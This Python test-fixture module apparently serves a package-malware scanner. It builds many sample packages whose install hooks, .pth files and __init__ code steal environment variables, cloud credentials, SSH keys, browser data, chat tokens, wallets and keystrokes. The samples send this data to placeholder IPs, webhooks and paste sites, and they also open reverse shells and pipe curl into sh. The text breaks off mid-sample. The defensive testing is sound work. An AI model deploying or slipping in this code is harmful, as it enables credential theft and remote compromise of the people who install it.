"""Inert malicious samples: one or more per technique of THREATS.md §3.

Written for these tests; the hosts are RFC 5737 documentation addresses or
`.invalid` names, except where the technique is a specific service's host
(webhooks, paste sites, tunnels, request catchers). Nothing here is ever run.
"""

from __future__ import annotations

import base64
import codecs
import io
import marshal
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import replace

from tests.samples import Build, Sample, noise, src
from tests.samples import Technique as T
from tests.samples.benign import mini_http

# A stand-in second stage: it would send the environment to a documentation address.
INNER = src(
    """
    import os, json, urllib.request as r
    r.urlopen("http://198.51.100.7:8080/c", json.dumps(dict(os.environ)).encode())
    """
)
INNER_B64 = base64.b64encode(INNER.encode()).decode()
INNER_HEX = INNER.encode().hex()
INNER_ZB64 = base64.b64encode(zlib.compress(INNER.encode())).decode()
INNER_ROT13 = codecs.encode(INNER, "rot13")
INNER_REV_B64Z = base64.b64encode(zlib.compress(INNER.encode()))[::-1].decode()
# compile() only turns our own inert text into a code object for the marshal layer.
INNER_MARSHAL = marshal.dumps(compile(INNER, "<x>", "exec"))
INNER_CHR = ",".join(str(ord(c)) for c in INNER)


def _wrap(text: str, width: int = 76) -> str:
    """Split a long literal into implicitly concatenated string lines."""
    parts = [text[i : i + width] for i in range(0, len(text), width)]
    return "(\n" + "".join(f'    "{p}"\n' for p in parts) + ")"


def _bytes_lines(data: bytes, width: int = 16) -> str:
    parts = [data[i : i + width] for i in range(0, len(data), width)]
    return "(\n" + "".join(f"    {p!r}\n" for p in parts) + ")"


def sdist(
    setup_py: str, pkg: str = "samplepkg", extra: Mapping[str, str | bytes] | None = None
) -> dict[str, str | bytes]:
    """An sdist tree: setup.py, a trivial package, and *extra* files."""
    files: dict[str, str | bytes] = {
        "setup.py": setup_py,
        f"{pkg}/__init__.py": '__version__ = "1.0.0"\n',
    }
    files.update(extra or {})
    return files


def pkg(
    init: str, name: str = "samplepkg", extra: Mapping[str, str | bytes] | None = None
) -> dict[str, str | bytes]:
    """A package whose `__init__.py` is *init*, plus *extra* files."""
    files: dict[str, str | bytes] = {f"{name}/__init__.py": init}
    files.update(extra or {})
    return files


SETUP_TAIL = 'setup(name="samplepkg", version="1.0.0", packages=["samplepkg"])\n'


# --- nested archives --------------------------------------------------------------


def _zip(members: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in members.items():
            info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
            archive.writestr(info, text)
    return buffer.getvalue()


NESTED_ZIP = _zip(
    {
        "bundle/__init__.py": "",
        "bundle/boot.py": src(
            """
            import os, socket, subprocess
            s = socket.create_connection(("203.0.113.9", 4444))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            subprocess.call(["/bin/sh", "-i"])
            """
        ),
    }
)
B64_ZIP = base64.b64encode(_zip({"stage/__init__.py": "", "stage/run.py": INNER + "\n"})).decode()

# -EncodedCommand takes base64 of UTF-16LE text.
PS_COMMAND = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p.ps1')"
PS_ENCODED = base64.b64encode(PS_COMMAND.encode("utf-16-le")).decode()

# A fake ELF: header bytes then noise. Never a working program.
FAKE_ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + noise("elf", 2048)
FAKE_PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise("png", 600) + b"IEND\xaeB`\x82"

_KEY = b"k3y!"
_XOR_BLOB = bytes(b ^ _KEY[i % 4] for i, b in enumerate(zlib.compress(INNER.encode() * 8)))

# Service URLs in the shape of real ones (fake ids and tokens), kept whole in the
# samples so that a byte pattern sees one literal; `add` fills the placeholders.
_TOKEN = "Fake0Token" * 6 + "Fake0Tok"
SERVICE_URLS = {
    # Fake secrets shaped like live ones (random-looking, not documentation
    # placeholders such as XXXX or 0000, which the scanner rightly ignores).
    "@DISCORD_HOOK@": "https://discord.com/api/webhooks/823491057361928450/" + _TOKEN,
    "@DISCORDAPP_HOOK@": "https://discordapp.com/api/webhooks/719283046152837465/" + _TOKEN,
    "@SLACK_HOOK@": "https://hooks.slack.com/services/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",
    "@TELEGRAM_BOT@": "https://api.telegram.org/bot6839201574:AAGk" + "Fq8Lz2Wx" * 4 + "F",
}

SAMPLES: list[Sample] = []


def _fill(content: str | bytes) -> str | bytes:
    if isinstance(content, bytes):
        return content
    for placeholder, url in SERVICE_URLS.items():
        content = content.replace(placeholder, url)
    return content


def add(sample: Sample) -> None:
    """Register a sample (ids must be unique), filling in the service URLs."""
    assert sample.id not in {s.id for s in SAMPLES}, sample.id
    SAMPLES.append(replace(sample, files={k: _fill(v) for k, v in sample.files.items()}))


# --- §3 runs without being imported --------------------------------------------------

add(
    Sample(
        id="setup-toplevel-environ-to-raw-ip",
        description="setup.py serialises os.environ at top level and POSTs it to a raw IP",
        rules=frozenset({"code/exfiltration", "code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                import json
                import os
                import urllib.request

                from setuptools import setup

                blob = json.dumps(dict(os.environ)).encode()
                req = urllib.request.Request("http://198.51.100.7:8080/collect", data=blob,
                                             method="POST")
                try:
                    urllib.request.urlopen(req, timeout=3)
                except Exception:
                    pass

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="cmdclass-install-aws-credentials",
        description="install override reads ~/.aws/credentials and posts it with requests",
        rules=frozenset(
            {"code/credential-file-access", "code/exfiltration", "code/install-time-network"}
        ),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.STEAL_CLOUD),
        files=sdist(
            src(
                """
                from pathlib import Path

                import requests
                from setuptools import setup
                from setuptools.command.install import install


                class PostInstall(install):
                    def run(self):
                        install.run(self)
                        creds = Path.home() / ".aws" / "credentials"
                        if creds.exists():
                            requests.post("https://collector.invalid/u",
                                          data={"c": creds.read_text()})


                setup(name="samplepkg", version="1.0.0", packages=["samplepkg"],
                      cmdclass={"install": PostInstall})
                """
            )
        ),
    )
)

add(
    Sample(
        id="cmdclass-develop-ssh-keys-http-client",
        description="develop override globs ~/.ssh/id_* and posts them via http.client",
        rules=frozenset(
            {"code/credential-file-access", "code/exfiltration", "code/install-time-network"}
        ),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.STEAL_SSH, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                import base64, glob, http.client, os
                from setuptools import setup
                from setuptools.command.develop import develop as _develop

                class develop(_develop):
                    def run(self):
                        keys = {}
                        for p in glob.glob(os.path.expanduser("~/.ssh/id_*")):
                            with open(p, "rb") as fh:
                                keys[p] = base64.b64encode(fh.read()).decode()
                        c = http.client.HTTPConnection("203.0.113.9", 80)
                        c.request("POST", "/k", body=str(keys))
                        _develop.run(self)

                setup(name="samplepkg", version="1.0.0", cmdclass={"develop": develop})
                """
            )
        ),
    )
)

add(
    Sample(
        id="cmdclass-egg-info-download-exec",
        description="egg_info override downloads a script and execs it",
        rules=frozenset({"code/exec-remote-code", "code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.STAGE2_DOWNLOAD_EXEC),
        files=sdist(
            src(
                """
                from setuptools import setup
                from setuptools.command.egg_info import egg_info
                from urllib.request import urlopen


                class EggInfo(egg_info):
                    def run(self):
                        stage = urlopen("http://203.0.113.9/s2.py").read()
                        exec(stage, {"__name__": "__main__"})
                        super().run()


                setup(
                    name="samplepkg",
                    version="1.0.0",
                    cmdclass=dict(egg_info=EggInfo),
                )
                """
            )
        ),
    )
)

add(
    Sample(
        id="cmdclass-build-py-curl-pipe-sh",
        description="build_py override pipes curl into sh",
        rules=frozenset({"code/download-command", "code/shell-download-exec"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                import os
                from setuptools import setup
                from setuptools.command.build_py import build_py


                class Build(build_py):
                    def run(self):
                        os.system("curl -fsSL http://198.51.100.7/i.sh | sh >/dev/null 2>&1 &")
                        build_py.run(self)


                setup(name="samplepkg", version="1.0.0", cmdclass={"build_py": Build})
                """
            )
        ),
    )
)

add(
    Sample(
        id="cmdclass-type-lambda-install",
        description="install override built with type() and a lambda that runs wget|bash",
        rules=frozenset({"code/download-command", "code/shell-download-exec"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.STAGE2_CURL_SH),
        files=sdist(
            src(
                """
                import subprocess
                from setuptools import setup
                from setuptools.command.install import install

                Hook = type("Hook", (install,), {
                    "run": lambda self: (
                        subprocess.Popen("wget -qO- http://203.0.113.9/x | bash", shell=True),
                        install.run(self),
                    )
                })

                setup(name="samplepkg", version="1.0.0", cmdclass={"install": Hook})
                """
            )
        ),
    )
)

add(
    Sample(
        id="in-tree-build-backend-token-files-slack",
        description="custom in-tree backend reads .pypirc/.npmrc at import, posts to Slack",
        rules=frozenset(
            {
                "code/credential-file-access",
                "code/exfiltration",
                "code/install-time-network",
                "code/webhook-exfil-endpoint",
            }
        ),
        build=Build.SDIST,
        techniques=(T.RUN_BUILD_BACKEND, T.STEAL_TOKEN_FILES, T.EXFIL_WEBHOOK),
        files=sdist(
            "",
            extra={
                "pyproject.toml": src(
                    """
                    [build-system]
                    requires = ["setuptools"]
                    build-backend = "backend"
                    backend-path = ["_build"]
                    """
                ),
                "_build/backend.py": src(
                    """
                    import json, os, urllib.request
                    from setuptools import build_meta as _orig

                    _bag = {}
                    for name in (".pypirc", ".npmrc"):
                        p = os.path.join(os.path.expanduser("~"), name)
                        if os.path.isfile(p):
                            _bag[name] = open(p).read()
                    urllib.request.urlopen(urllib.request.Request(
                        "@SLACK_HOOK@",
                        data=json.dumps({"text": json.dumps(_bag)}).encode(),
                        headers={"Content-Type": "application/json"},
                    ))

                    build_wheel = _orig.build_wheel
                    build_sdist = _orig.build_sdist
                    get_requires_for_build_wheel = _orig.get_requires_for_build_wheel
                    """
                ),
            },
        )
        | {"setup.py": SETUP_TAIL.replace("setup(", "from setuptools import setup\nsetup(")},
    )
)

add(
    Sample(
        id="hatch-build-hook-env-exfil",
        description="hatch_build.py custom hook sends the environment at build time",
        rules=frozenset({"code/exfiltration", "code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.RUN_BUILD_BACKEND, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files={
            "pyproject.toml": src(
                """
                [build-system]
                requires = ["hatchling"]
                build-backend = "hatchling.build"

                [tool.hatch.build.hooks.custom]
                """
            ),
            "hatch_build.py": src(
                """
                import os
                import httpx
                from hatchling.builders.hooks.plugin.interface import BuildHookInterface


                class CustomBuildHook(BuildHookInterface):
                    def initialize(self, version, build_data):
                        httpx.post("http://192.0.2.44/h", json={**os.environ})
                """
            ),
            "samplepkg/__init__.py": "",
        },
    )
)

add(
    Sample(
        id="pth-import-line-base64-exec",
        description=".pth whose import line decodes and execs a base64 payload at startup",
        rules=frozenset({"code/exec-decoded-payload", "code/pth-executes-payload"}),
        build=Build.WHEEL,
        techniques=(T.RUN_PTH, T.HIDE_BASE64, T.STEAL_ENV),
        files=pkg(
            "",
            extra={
                "samplepkg_init.pth": "import base64; exec(base64.b64decode('" + INNER_B64 + "'))\n"
            },
        ),
    )
)

add(
    Sample(
        id="pth-import-line-detached-subprocess",
        description=".pth spawns a detached interpreter that downloads and execs stage two",
        rules=frozenset({"code/pth-executes-payload"}),
        build=Build.BOTH,
        techniques=(T.RUN_PTH, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg(
            '"""helpers"""\n',
            extra={
                "zz_speedups.pth": (
                    "import subprocess, sys; subprocess.Popen([sys.executable, '-c', "
                    "\"import urllib.request as u; exec(u.urlopen('http://203.0.113.9/p')"
                    '.read())"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n'
                )
            },
        ),
    )
)

add(
    Sample(
        id="pth-path-then-hidden-import",
        description=".pth that adds a path, then an import line pushed far right runs a module",
        rules=frozenset({"code/reverse-shell", "code/whitespace-padding"}),
        build=Build.WHEEL,
        techniques=(T.RUN_PTH, T.HIDE_LONG_LINE, T.RC_REVERSE_SHELL),
        files={
            "samplepkg/__init__.py": "",
            "samplepkg/_hook.py": src(
                """
                import os, pty, socket
                s = socket.socket()
                s.connect(("198.51.100.23", 9001))
                [os.dup2(s.fileno(), f) for f in (0, 1, 2)]
                pty.spawn("/bin/bash")
                """
            ),
            "samplepkg.pth": "samplepkg/lib\nimport os;" + " " * 300 + "import samplepkg._hook\n",
        },
    )
)

add(
    Sample(
        id="sitecustomize-env-to-tunnel",
        description="sitecustomize.py posts the environment to a tunnel host in a thread",
        rules=frozenset({"code/exfiltration", "code/tunnel-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_SITECUSTOMIZE, T.STEAL_ENV, T.EXFIL_TUNNEL),
        files={
            "sitecustomize.py": src(
                """
                import os
                import threading
                import urllib.parse
                import urllib.request


                def _beat():
                    body = urllib.parse.urlencode(os.environ).encode()
                    try:
                        urllib.request.urlopen("https://a1b2-fake.ngrok-free.app/in", body)
                    except OSError:
                        pass


                threading.Thread(target=_beat, daemon=True).start()
                """
            ),
        },
    )
)

add(
    Sample(
        id="usercustomize-git-credentials-to-paste",
        description="usercustomize.py uploads .git-credentials, .netrc and kube config to a paste",
        rules=frozenset(
            {
                "code/credential-file-access",
                "code/credential-file-sweep",
                "code/exfiltration",
                "code/paste-site-endpoint",
            }
        ),
        build=Build.WHEEL,
        techniques=(T.RUN_SITECUSTOMIZE, T.STEAL_TOKEN_FILES, T.EXFIL_PASTE),
        files={
            "usercustomize.py": src(
                """
                from pathlib import Path
                import requests

                home = Path.home()
                loot = ""
                for rel in (".git-credentials", ".netrc", ".kube/config", ".docker/config.json"):
                    f = home / rel
                    if f.is_file():
                        loot += f"== {rel}\\n" + f.read_text(errors="ignore")
                requests.post(
                    "https://pastebin.com/api/api_post.php",
                    data={"api_dev_key": "0000fake", "api_option": "paste",
                          "api_paste_code": loot, "api_paste_private": "2"},
                )
                """
            ),
        },
    )
)

add(
    Sample(
        id="init-toplevel-gcp-azure-telegram",
        description="__init__.py reads GCP and Azure credential files, sends them via Telegram",
        rules=frozenset(
            {"code/credential-exfil", "code/credential-file-access", "code/webhook-exfil-endpoint"}
        ),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CLOUD, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                """
                import os as _os
                import urllib.parse as _p
                import urllib.request as _r

                __version__ = "2.4.1"

                _found = []
                for _f in (
                    "~/.config/gcloud/application_default_credentials.json",
                    "~/.config/gcloud/credentials.db",
                    "~/.azure/accessTokens.json",
                    "~/.azure/msal_token_cache.json",
                ):
                    _f = _os.path.expanduser(_f)
                    if _os.path.exists(_f):
                        _found.append(open(_f, encoding="utf-8", errors="ignore").read())
                if _found:
                    _r.urlopen(
                        "@TELEGRAM_BOT@/sendMessage",
                        _p.urlencode({"chat_id": "-100000", "text": "\\n".join(_found)}).encode(),
                    )
                """
            ),
        ),
    )
)


# --- §3 steals ----------------------------------------------------------------------

add(
    Sample(
        id="init-aws-metadata-endpoint",
        description="module top level queries the instance metadata endpoint for IAM credentials",
        rules=frozenset(
            {"code/cloud-metadata-access", "code/cloud-metadata-endpoint", "code/exfiltration"}
        ),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CLOUD, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import json
                from urllib.request import Request, urlopen

                META = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
                try:
                    role = urlopen(META, timeout=1).read().decode().strip()
                    creds = urlopen(META + role, timeout=1).read()
                    urlopen(Request("http://203.0.113.9:8443/m", data=creds, method="POST"))
                except Exception:
                    pass
                """
            )
        ),
    )
)

add(
    Sample(
        id="gcp-metadata-token-to-webhook-site",
        description="asks the GCP metadata server for a token, sends it to a request catcher",
        rules=frozenset(
            {
                "code/cloud-metadata-access",
                "code/install-time-network",
                "code/request-catcher-endpoint",
            }
        ),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STEAL_CLOUD, T.EXFIL_REQUEST_CATCHER),
        files=sdist(
            src(
                """
                import requests
                from setuptools import setup

                try:
                    tok = requests.get(
                        "http://metadata.google.internal/computeMetadata/v1/instance/"
                        "service-accounts/default/token",
                        headers={"Metadata-Flavor": "Google"}, timeout=2,
                    ).text
                    requests.post("https://webhook.site/00000000-0000-4000-8000-000000000000",
                                  data=tok)
                except requests.RequestException:
                    pass

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="browser-login-data-to-file-drop",
        description="copies Chrome Login Data/Cookies and Firefox cookies.sqlite to a file drop",
        rules=frozenset(
            {
                "code/browser-credential-store",
                "code/exfiltration",
                "code/paste-site-endpoint",
                "code/stealer-target-access",
            }
        ),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_BROWSER, T.EXFIL_PASTE),
        files=pkg(
            "from . import _compat  # noqa\n",
            extra={
                "samplepkg/_compat.py": src(
                    """
                    import glob
                    import os
                    import shutil
                    import tempfile
                    import requests

                    local = os.getenv("LOCALAPPDATA", "")
                    paths = [
                        os.path.join(local, "Google", "Chrome", "User Data", "Default",
                                     "Login Data"),
                        os.path.join(local, "Google", "Chrome", "User Data", "Local State"),
                        os.path.join(local, "Google", "Chrome", "User Data", "Default", "Network",
                                     "Cookies"),
                    ] + glob.glob(os.path.expanduser("~/.mozilla/firefox/*/cookies.sqlite"))
                    tmp = tempfile.mkdtemp()
                    for i, p in enumerate(paths):
                        if os.path.exists(p):
                            dst = os.path.join(tmp, str(i))
                            shutil.copy(p, dst)
                            with open(dst, "rb") as fh:
                                requests.put("https://transfer.sh/" + str(i), data=fh)
                    """
                )
            },
        ),
    )
)

add(
    Sample(
        id="discord-token-grabber-webhook",
        description="greps Discord leveldb for tokens and posts them to a Discord webhook",
        rules=frozenset(
            {"code/stealer-markers", "code/stealer-target-access", "code/webhook-exfil-endpoint"}
        ),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CHAT_TOKENS, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                r"""
                import os, re, json
                from urllib.request import Request, urlopen

                HOOK = "@DISCORD_HOOK@"
                roots = [os.path.join(os.getenv("APPDATA", ""), d, "Local Storage", "leveldb")
                         for d in ("discord", "discordcanary", "discordptb")]
                hits = set()
                for root in roots:
                    if not os.path.isdir(root):
                        continue
                    for name in os.listdir(root):
                        if name.endswith((".log", ".ldb")):
                            text = open(os.path.join(root, name), errors="ignore").read()
                            hits.update(re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text))
                            hits.update(re.findall(r"mfa\.[\w-]{84}", text))
                if hits:
                    urlopen(Request(HOOK, data=json.dumps({"content": " ".join(hits)}).encode(),
                                    headers={"Content-Type": "application/json",
                                             "User-Agent": "Mozilla/5.0"}))
                """
            )
        ),
    )
)

add(
    Sample(
        id="telegram-tdata-to-bot",
        description="zips Telegram Desktop tdata and sends it with the Telegram bot API",
        rules=frozenset(
            {"code/exfiltration", "code/stealer-target-access", "code/webhook-exfil-endpoint"}
        ),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CHAT_TOKENS, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                """
                import os
                import shutil
                import tempfile

                import requests

                BOT = "@TELEGRAM_BOT@/sendDocument"
                tdata = os.path.join(os.environ.get("APPDATA", ""), "Telegram Desktop", "tdata")
                if os.path.isdir(tdata):
                    archive = shutil.make_archive(os.path.join(tempfile.gettempdir(), "td"), "zip",
                                                  tdata)
                    with open(archive, "rb") as fh:
                        requests.post(BOT, data={"chat_id": "1"}, files={"document": fh})
                """
            )
        ),
    )
)

add(
    Sample(
        id="crypto-wallets-to-raw-ip",
        description="collects Exodus/Electrum wallets and a MetaMask extension store",
        rules=frozenset({"code/exfiltration", "code/stealer-target-access"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_WALLET, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import io, os, zipfile, urllib.request

                home = os.path.expanduser("~")
                appdata = os.getenv("APPDATA", home)
                wallets = {
                    "exodus": os.path.join(appdata, "Exodus", "exodus.wallet"),
                    "electrum": os.path.join(home, ".electrum", "wallets"),
                    "atomic": os.path.join(appdata, "atomic", "Local Storage", "leveldb"),
                    "metamask": os.path.join(
                        os.getenv("LOCALAPPDATA", home), "Google", "Chrome", "User Data",
                        "Default", "Local Extension Settings", "nkbihfbeogaeaoehlefnkodbefgpgknn"),
                }
                buf = io.BytesIO()
                with zipfile.ZipFile(buf, "w") as z:
                    for label, root in wallets.items():
                        for dirpath, _, names in os.walk(root):
                            for n in names:
                                z.write(os.path.join(dirpath, n), f"{label}/{n}")
                urllib.request.urlopen("http://198.51.100.77/w", data=buf.getvalue())
                """
            )
        ),
    )
)

add(
    Sample(
        id="clipboard-address-swapper",
        description="thread started at import watches the clipboard and swaps wallet addresses",
        rules=frozenset({"code/surveillance"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CLIPBOARD),
        files=pkg(
            src(
                r"""
                import re
                import threading
                import time

                import pyperclip

                _MINE = "bc1qfakefakefakefakefakefakefakefakefake0"
                _BTC = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")


                def _watch() -> None:
                    while True:
                        text = pyperclip.paste()
                        if _BTC.match(text or "") and text != _MINE:
                            pyperclip.copy(_MINE)
                        time.sleep(0.5)


                threading.Thread(target=_watch, daemon=True).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="screenshot-to-discord-webhook",
        description="grabs the screen with ImageGrab at import and uploads it to a webhook",
        rules=frozenset({"code/exfiltration", "code/surveillance", "code/webhook-exfil-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_SCREENSHOT, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                """
                import io
                import requests
                from PIL import ImageGrab

                shot = ImageGrab.grab()
                buf = io.BytesIO()
                shot.save(buf, format="PNG")
                requests.post(
                    "@DISCORDAPP_HOOK@",
                    files={"file": ("s.png", buf.getvalue())},
                )
                """
            )
        ),
    )
)

add(
    Sample(
        id="keylogger-pynput-flush-raw-ip",
        description="pynput keyboard listener started at import flushes keys to a raw IP",
        rules=frozenset({"code/surveillance"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_KEYSTROKES, T.EXFIL_RAW_IP),
        files=pkg(
            src(
                """
                import socket
                from pynput import keyboard

                buffer = []

                def on_press(key):
                    buffer.append(str(key))
                    if len(buffer) >= 50:
                        with socket.create_connection(("192.0.2.15", 7000)) as s:
                            s.sendall("".join(buffer).encode())
                        buffer.clear()

                keyboard.Listener(on_press=on_press).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="keylogger-windows-hook",
        description="GetAsyncKeyState polling via ctypes, written to a hidden file and sent",
        rules=frozenset({"code/surveillance", "code/webhook-exfil-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_KEYSTROKES, T.EXFIL_WEBHOOK),
        files=pkg(
            src(
                """
                import ctypes, os, threading, time, urllib.request

                user32 = ctypes.windll.user32
                LOG = os.path.join(os.getenv("TEMP", "."), ".kb.dat")

                def poll():
                    while True:
                        for vk in range(8, 256):
                            if user32.GetAsyncKeyState(vk) & 1:
                                with open(LOG, "a") as f:
                                    f.write(chr(vk))
                        if os.path.getsize(LOG) > 4096:
                            urllib.request.urlopen(
                                "@DISCORD_HOOK@",
                                data=open(LOG, "rb").read())
                        time.sleep(0.01)

                threading.Thread(target=poll, daemon=True).start()
                """
            )
        ),
    )
)

add(
    Sample(
        id="env-via-printenv-curl-data",
        description="setup.py shells out to env and pipes it to curl -d @- at a raw IP",
        rules=frozenset({"code/exfiltration"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STEAL_ENV, T.EXFIL_RAW_IP),
        files=sdist(
            src(
                """
                #!/usr/bin/env python
                import subprocess
                from setuptools import setup

                subprocess.run("env | curl -s -X POST -d @- http://203.0.113.50/e", shell=True)

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="boto-session-credentials-to-oast",
        description="module top level pulls frozen boto3 credentials and sends to an OAST host",
        rules=frozenset({"code/exfiltration", "code/request-catcher-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_CLOUD, T.EXFIL_REQUEST_CATCHER),
        files=pkg(
            src(
                """
                import boto3
                import requests

                _c = boto3.Session().get_credentials()
                if _c is not None:
                    _f = _c.get_frozen_credentials()
                    requests.get(
                        "https://c0ffee00fake.oast.fun/",
                        params={"a": _f.access_key, "s": _f.secret_key, "t": _f.token},
                    )
                """
            )
        ),
    )
)


# --- §3 sends it out ------------------------------------------------------------------

add(
    Sample(
        id="dns-exfil-hex-labels",
        description="splits AWS keys into hex DNS labels under an attacker zone",
        rules=frozenset({"code/dns-exfiltration", "code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.EXFIL_DNS, T.STEAL_CLOUD),
        files=sdist(
            src(
                """
                import os
                import socket
                from setuptools import setup

                secret = (os.environ.get("AWS_ACCESS_KEY_ID", "") + ":" +
                          os.environ.get("AWS_SECRET_ACCESS_KEY", "")).encode().hex()
                for i in range(0, len(secret), 60):
                    try:
                        socket.gethostbyname(f"{i}.{secret[i:i + 60]}.x.collector.invalid")
                    except socket.gaierror:
                        pass

                """
            )
            + SETUP_TAIL
        ),
    )
)

add(
    Sample(
        id="request-catcher-burp-collaborator",
        description="install hook pings a collaborator host with user and host in the query",
        rules=frozenset({"code/host-info-exfiltration", "code/request-catcher-endpoint"}),
        build=Build.SDIST,
        techniques=(T.RUN_CMDCLASS, T.EXFIL_REQUEST_CATCHER),
        files=sdist(
            src(
                """
                import getpass, platform, urllib.request
                from setuptools import setup
                from setuptools.command.install import install

                class I(install):
                    def run(self):
                        urllib.request.urlopen(
                            "http://zq9fakefake.burpcollaborator.net/?u=%s&h=%s"
                            % (getpass.getuser(), platform.node()))
                        install.run(self)

                setup(name="samplepkg", version="1.0.0", cmdclass={"install": I})
                """
            )
        ),
    )
)

add(
    Sample(
        id="pipedream-and-interactsh-beacons",
        description="__init__ beacons to pipedream and interact.sh request catchers",
        rules=frozenset({"code/exfiltration", "code/request-catcher-endpoint"}),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.EXFIL_REQUEST_CATCHER, T.STEAL_ENV),
        files=pkg(
            src(
                """
                import json, os
                import urllib.request as ur

                for target in ("https://eo0000fake.m.pipedream.net",
                               "https://fakefake.interact.sh/x"):
                    try:
                        ur.urlopen(target, json.dumps({**os.environ}).encode(), timeout=2)
                    except Exception:
                        continue
                """
            )
        ),
    )
)

add(
    Sample(
        id="tunnel-trycloudflare-ssh-keys",
        description="sends ~/.ssh contents to a trycloudflare tunnel from a submodule",
        rules=frozenset(
            {"code/credential-file-access", "code/exfiltration", "code/tunnel-endpoint"}
        ),
        build=Build.WHEEL,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STEAL_SSH, T.EXFIL_TUNNEL),
        files=pkg(
            "from .net import *  # noqa: F403\n",
            extra={
                "samplepkg/net.py": src(
                    """
                    import os
                    import requests

                    ssh = os.path.join(os.path.expanduser("~"), ".ssh")
                    payload = {}
                    if os.path.isdir(ssh):
                        for fn in os.listdir(ssh):
                            try:
                                payload[fn] = open(os.path.join(ssh, fn)).read()
                            except OSError:
                                pass
                    requests.post("https://fake-words-here.trycloudflare.com/s", json=payload)
                    """
                )
            },
        ),
    )
)

add(
    Sample(
        id="paste-ee-and-file-io-env",
        description="setup.py uploads the environment to a file-drop site with urllib3",
        rules=frozenset(
            {"code/exfiltration", "code/install-time-network", "code/paste-site-endpoint"}
        ),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.EXFIL_PASTE, T.STEAL_ENV),
        files=sdist(
            src(
                """
                from os import environ
                import urllib3
                from setuptools import setup

                pool = urllib3.PoolManager()
                text = "\\n".join(f"{k}={v}" for k, v in environ.items())
                pool.request("POST", "https://file.io/", fields={"file": ("e.txt", text)})

                """
            )
            + SETUP_TAIL
        ),
    )
)

# --- §3 fetches stage two -------------------------------------------------------------

add(
    Sample(
        id="init-requests-get-exec",
        description="__init__ execs the text of an HTTP response",
        rules=frozenset({"code/exec-remote-code"}),
        build=Build.BOTH,
        techniques=(T.RUN_INIT_TOPLEVEL, T.STAGE2_DOWNLOAD_EXEC),
        files=pkg('import requests\nexec(requests.get("http://198.51.100.7/stage2").text)\n'),
    )
)

add(
    Sample(
        id="setup-write-elf-chmod-run",
        description="setup.py downloads a binary, chmods it +x and runs it in the background",
        rules=frozenset({"code/download-execute", "code/install-time-network"}),
        build=Build.SDIST,
        techniques=(T.RUN_SETUP_TOPLEVEL, T.STAGE2_BINARY_CHMOD),
        files=sdist(
            src(
                """
                import os, stat, subprocess, tempfile, urllib.request
                from setuptools import setup

                dest = os.path.join(tempfile.gettempdir(), ".X11-cache")
                with open(dest, "wb") as out:
                    out.write(urllib.request.urlopen("http://203.0.113.9/bin/amd64").read())
                os.chmod(dest, os.stat(dest).st_mode | stat.S_IEXEC)
                subprocess.Popen([dest], start_new_session=True,
